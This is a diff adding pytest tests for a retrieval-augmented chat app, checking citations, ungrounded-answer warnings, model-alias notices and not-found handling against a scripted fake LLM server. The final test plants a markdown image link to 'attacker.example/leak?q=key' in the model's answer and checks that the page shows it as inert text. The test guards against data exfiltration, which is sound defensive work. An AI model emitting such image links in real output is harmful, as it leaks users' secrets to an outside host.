@@ -125,6 +125,30 @@ def test_llm_policy_through_a_scripted_endpoint(indexed, monkeypatch):
     assert result.steps[0].route == "keyword" and "LLM router" in result.steps[0].route_reason
     system = server.requests[0]["json"]["messages"][0]["content"]
     assert "<untrusted_document>" in system
+    # done cited nothing: the answer is shown, flagged as ungrounded
+    assert not result.grounded
+    assert any(w.value.startswith("**Ungrounded answer** (ungrounded: the answer cites none") for w in at.warning)
+
+
+def test_llm_answer_policy_cites_its_chunks(indexed, monkeypatch):
+    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fakes"))
+    import openai_server as fake
+
+    script = [fake.answer("Open Settings, choose Keys and press Rotate [1].")]
+    with fake.LlamaCppServer(script, route="keyword") as server:
+        monkeypatch.setenv("RAG_LLM_BASE_URL", server.base_url)
+        monkeypatch.setenv("RAG_LLM_MODEL", "scripted-model")
+        at = _app(agent_policy="llm-answer")
+        at.run()
+        at.chat_input[0].set_value("How do I rotate the API key?").run()
+    assert not at.exception
+    result = at.session_state["agent_chat"][0][1]
+    assert result.policy == "llm-answer" and result.grounded and result.citations
+    assert f"press Rotate [{result.citations[0]}]." in _markdown(at)
+    assert not any("Ungrounded" in w.value for w in at.warning)
+    # llama.cpp answers under its own alias whatever model is asked for: the page says so
+    assert any("answered as model 'smollm2', not 'scripted-model'" in i.value.replace("\\", "") for i in at.info)
+    assert [b.label.startswith("📎 ") for b in at.button if b.label.startswith("📎")] == [True]
 
 
 def test_failing_llm_endpoint_falls_back_to_offline(indexed, monkeypatch):
@@ -277,3 +301,30 @@ def test_compare_view_puts_the_agent_charts_below_at_full_width_and_keeps_citati
         # The full source and heading path are in the tooltip.
         assert button.help.startswith(r"a\-rather\-long\-document\-name\-about\-operations\.md › Operations handbook"
                                       r" › Security and access management › Rotating the API key safely")
+
+
+def test_not_found_is_not_flagged_as_ungrounded(indexed):
+    at = _app()
+    at.run()
+    at.chat_input[0].set_value("zebra giraffe migration").run()
+    assert not at.exception
+    result = at.session_state["agent_chat"][0][1]
+    assert result.answer.startswith("I could not find this") and not result.grounded
+    assert not any("Ungrounded" in w.value for w in at.warning)
+    assert any("ungrounded: nothing relevant was found" in c.value for c in at.caption)
+
+
+def test_model_answer_fetches_no_image(indexed, monkeypatch):
+    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fakes"))
+    import openai_server as fake
+
+    planted = "Press Rotate [1]. ![x](https://attacker.example/leak?q=key)"
+    with fake.LlamaCppServer([fake.answer(planted)], route="keyword") as server:
+        monkeypatch.setenv("RAG_LLM_BASE_URL", server.base_url)
+        monkeypatch.setenv("RAG_LLM_MODEL", "smollm2")
+        at = _app(agent_policy="llm-answer")
+        at.run()
+        at.chat_input[0].set_value("How do I rotate the API key?").run()
+    assert not at.exception
+    shown = _markdown(at)
+    assert "![x](" not in shown and "[image: x `https://attacker.example/leak?q=key`]" in shown
